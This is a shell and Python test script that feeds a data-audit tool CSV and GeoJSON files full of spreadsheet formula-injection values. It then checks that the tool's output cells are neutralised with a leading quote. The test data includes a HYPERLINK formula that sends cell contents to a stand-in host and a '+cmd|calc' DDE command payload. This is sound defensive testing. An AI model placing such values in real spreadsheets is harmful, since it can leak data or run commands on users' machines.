#!/usr/bin/env bash
# formulas.test.sh — issue 14 item 1: a hostile data source puts
# spreadsheet formulas (=, +, -, @, tab, CR) at the start of every text
# column it controls: record ids, facilities, region ids, attribute names
# and values, a carried-through column and its header, and rows that are
# rejected. No cell of any CSV that `audit` (full and --publish) and
# `check --rejects` write may start so, unless it is a plain number; the
# hostile values must still be there, guarded by one leading quote; and a
# rejected row, with that quote dropped, must be the row at its byte
# offset in the records file.
# Usage: bash formulas.test.sh STEERWATCH_BIN SOURCE_DIR SCRATCH_DIR
set -u
bin=$(realpath "$1") src=$(realpath "$2") scratch=$(realpath -m "$3")
rm -rf "$scratch" && mkdir -p "$scratch" && cd "$scratch" || exit 1
small=$src/tests/golden/audit_small

python3 - "$small" <<'EOF' || exit 1
import csv, io, sys
small = sys.argv[1]
regions = {}
for k, c in enumerate(['G00', 'G01', 'G02', 'G10', 'G11', 'G12', 'G20', 'G21', 'G22']):
    regions[c] = ['=%s' % c, '+%s' % c, '-%s' % c, '@%s' % c, "'%s" % c,
                  '=1+1%s' % c, '-2%s' % c, '+%s' % c.lower(), '@@%s' % c][k]
geo = open(small + '/regions.geojson').read()
for c, h in regions.items():
    geo = geo.replace('"%s"' % c, '"%s"' % h)
open('regions.geojson', 'w').write(geo)

with open(small + '/attrs.csv', newline='') as f, open('attrs.csv', 'w', newline='') as g:
    w = csv.writer(g, lineterminator='\n')
    for i, row in enumerate(csv.reader(f)):
        if i:
            row[0] = regions.get(row[0], row[0])
            if row[1] == 'sanctuary':
                row[1], row[2] = '-sanctuary', '=yes'
        w.writerow(row)

prefixes = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+cmd|calc', '-', '@',
            '\t', '\r']
facility = {'North Camp': '+cmd|calc', 'South, Annex': '=1+2,"x"'}
with open(small + '/records.csv', newline='') as f, open('records.csv', 'w', newline='') as g:
    w = csv.writer(g, lineterminator='\n')
    for i, row in enumerate(csv.reader(f)):
        if i == 0:
            row[-1] = '@note'
        elif row[0] != 'bad':
            row[0] = prefixes[i % len(prefixes)] + row[0]
            row[6] = regions.get(row[6], row[6])
            row[9] = regions.get(row[9], row[9])
            row[10] = facility.get(row[10], row[10])
            row[12] = prefixes[(i + 1) % len(prefixes)] + row[12]
        else:
            row[0] = '=bad'
        w.writerow(row)
    # Rejected rows: a formula date, a duplicate id, a row of another width.
    g.write('+x1,=2021-01-01,40,-99,41,-99,,,,,x,,z\n')
    g.write('@dup,2021-02-01,40,-99,41,-99,,,,,x,,z\n@dup,2021-02-01,40,-99,41,-99,,,,,x,,z\n')
    g.write('-1,2021-02-01,40\n')
EOF

fails=0
fail() { echo "FAIL: $*"; fails=$((fails + 1)); }

"$bin" audit --records records.csv --regions regions.geojson --region-id code \
  --attrs attrs.csv --target '-sanctuary==yes' --seed 1 --threads 2 \
  --out out 2>stderr || { cat stderr; fail "audit of the hostile catalog: exit $?"; }
# The published view goes through the same writers, with pseudonyms.
head -c 32 /dev/zero >key
"$bin" audit --records records.csv --regions regions.geojson --region-id code \
  --attrs attrs.csv --target '-sanctuary==yes' --seed 1 --threads 2 \
  --publish --key key --keep-column @note --out pub 2>stderr ||
  { cat stderr; fail "published audit of the hostile catalog: exit $?"; }
"$bin" check records.csv --rejects check_rejects.csv 2>/dev/null ||
  fail "check of the hostile catalog: exit $?"

python3 - out/*.csv pub/*.csv check_rejects.csv <<'EOF' || fails=$((fails + 1))
import csv, io, re, sys
number = re.compile(r'[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\Z')
bad, cells = [], {}
for path in sys.argv[1:]:
    with open(path, newline='') as f:
        rows = list(csv.reader(f))
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            if not path.startswith('pub/'):
                cells.setdefault(path.split('/')[-1], set()).add(cell)
            if cell[:1] in ('=', '+', '-', '@', '\t', '\r') and not number.match(cell):
                bad.append('%s row %d col %d: %r' % (path, r + 1, c + 1, cell[:60]))
for b in bad[:10]:
    print('FAIL: a spreadsheet would evaluate', b)
ok = not bad
# The hostile values are kept, guarded, not dropped.
want = {'flagged.csv': ["'+cmd|calc", "'=1+2,\"x\"", "'@note", "'-G02", "''G11"],
        'regions.csv': ["'=G00", "'@@G22", "'-sanctuary==yes"],
        'rejects.csv': ["'@dup,2021-02-01,40,-99,41,-99,,,,,x,,z"],
        'facilities.csv': ["'+cmd|calc", "'=1+2,\"x\""],
        'coefficients.csv': ["'-sanctuary==yes"],
        'weekly.csv': ["'-sanctuary==yes"], 'periods.csv': ["'-sanctuary==yes"]}
for name, values in want.items():
    for v in values:
        if v not in cells.get(name, set()):
            print('FAIL: %s lacks the guarded cell %r' % (name, v)); ok = False
if not any(c.startswith("'=HYPERLINK(") for c in cells.get('flagged.csv', ())):
    print('FAIL: flagged.csv lacks the guarded =HYPERLINK id'); ok = False
# Rejected rows: dropping one leading quote gives the row at its offset.
data = open('records.csv', 'rb').read()
for path in ('out/rejects.csv', 'check_rejects.csv'):
    with open(path, newline='') as f:
        rejects = list(csv.DictReader(f))
    if len(rejects) < 4:
        print('FAIL: %s has %d rows, want at least 4' % (path, len(rejects))); ok = False
    for x in rejects:
        raw = x['raw'][1:] if x['raw'].startswith("'") else x['raw']
        at = next(csv.reader(io.StringIO(data[int(x['byte']):].decode(), newline='')))
        if next(csv.reader(io.StringIO(raw, newline=''))) != at:
            print('FAIL: %s line %s: raw %r is not the row at byte %s: %r'
                  % (path, x['line'], raw[:50], x['byte'], at)); ok = False
sys.exit(0 if ok else 1)
EOF

[[ $fails == 0 ]] || exit 1
echo "formulas: no cell a spreadsheet would evaluate"
